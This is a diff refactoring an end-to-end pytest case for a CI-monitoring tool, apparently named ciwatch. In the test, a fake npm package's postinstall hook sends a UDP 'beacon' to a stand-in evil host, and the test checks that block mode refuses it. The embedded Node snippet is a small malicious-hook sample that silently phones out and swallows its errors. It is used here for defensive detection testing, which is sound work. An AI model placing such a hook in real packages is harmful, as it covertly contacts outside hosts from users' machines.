@@ -13,7 +13,6 @@ sends a UDP datagram (proxy-bypass, medium on its own: without this, only a warn
 from __future__ import annotations
 
 import json
-import subprocess
 from pathlib import Path
 
 import pytest
@@ -22,15 +21,8 @@ from ciwatch.policy.model import Severity
 from ciwatch.record.events import DnsAnswer, Refusal
 from ciwatch.record.vocabulary import RefusedWhat
 from ciwatch.verdict import VerdictKind
-from tests.support.attacks import (
-    DEFAULT_POLICY,
-    POLICY_FAILED,
-    assert_found,
-    assert_replay_agrees,
-    npm_install,
-    npm_project,
-    watch,
-)
+from tests.support.attacks import assert_found, npm_project
+from tests.support.hooks import HOOK, Hooks, assert_refused
 from tests.support.internet import EVIL, TestInternet
 from tests.support.internet.core import UDP_PORT
 from tests.test_rules import Build, found
@@ -107,55 +99,28 @@ def test_an_exception_still_covers_a_refusal(tmp_path: Path) -> None:
 
 # -- end to end: a real hook's datagram, refused -------------------------------------------
 
-PACKAGE, VERSION, HOOK = "udp-beacon", "1.0.0", "postinstall"
 
-
-def _publish(internet: TestInternet) -> None:
+def _publish(hooks: Hooks, evil_ip: str) -> str:
     # Swallows its errors, as malware does: the install succeeds whatever happens to the packet.
     beacon = (
         "const s = require('dgram').createSocket('udp4'); s.on('error', () => {});"
-        f"s.send('beacon', {UDP_PORT}, {json.dumps(internet.address_of(EVIL).ipv4)}, () => s.close());"
+        f"s.send('beacon', {UDP_PORT}, {json.dumps(evil_ip)}, () => s.close());"
     )
-    internet.publish_npm(
-        PACKAGE,
-        VERSION,
-        package_json_extra={"main": "index.js", "scripts": {HOOK: "node beacon.js"}},
-        files={"index.js": "module.exports = {};\n", "beacon.js": beacon + "\n"},
-    )
+    return hooks.publish("udp-beacon", "node beacon.js", files={"beacon.js": beacon + "\n"}, main=True)
 
 
 @pytest.mark.npm
 @pytest.mark.root
-def test_a_hooks_refused_datagram_fails_block_mode(internet: TestInternet, tmp_path: Path) -> None:
-    _publish(internet)
-    (tmp_path / "home").mkdir()
-    bare = npm_project(tmp_path / "bare")
-    done = subprocess.run(
-        internet.wrap_with_test_resolver(npm_install(f"{PACKAGE}@{VERSION}")),
-        cwd=bare,
-        env=internet.client_env(tmp_path / "home"),
-        capture_output=True,
-        text=True,
-        timeout=240,
-    )
-    assert done.returncode == 0, done.stderr[-3000:]
+def test_a_hooks_refused_datagram_fails_block_mode(
+    internet: TestInternet, hooks: Hooks, evil_ip: str, tmp_path: Path
+) -> None:
+    package = _publish(hooks, evil_ip)
+    hooks.bare_install(package, npm_project(tmp_path / "bare"))
     assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"beacon"]  # it works bare
     internet.reset_logs()
-    project = npm_project(tmp_path / "project")
-    watched = watch(
-        internet,
-        tmp_path / "home",
-        project,
-        tmp_path / "out",
-        npm_install(f"{PACKAGE}@{VERSION}"),
-        policy=DEFAULT_POLICY,
-        mode="block",
-    )
-    assert watched.code == POLICY_FAILED, watched.stderr[-3000:] + watched.described()
-    assert watched.record_end_code == 0
+    watched = hooks.install(package, mode="block")
+    assert_refused(watched)
     assert internet.udp_datagrams(EVIL, timeout=1.0) == []
-    verdict = watched.verdict
-    assert verdict["verdict"] == "fail" and verdict["refusals"] >= 1
-    [finding] = assert_found(watched, "proxy-bypass", f"{PACKAGE}@{VERSION}", HOOK)
+    assert watched.verdict["refusals"] >= 1
+    [finding] = assert_found(watched, "proxy-bypass", package, HOOK)
     assert finding["severity"] == "high" and "refused" in finding["message"]
-    assert_replay_agrees(watched)
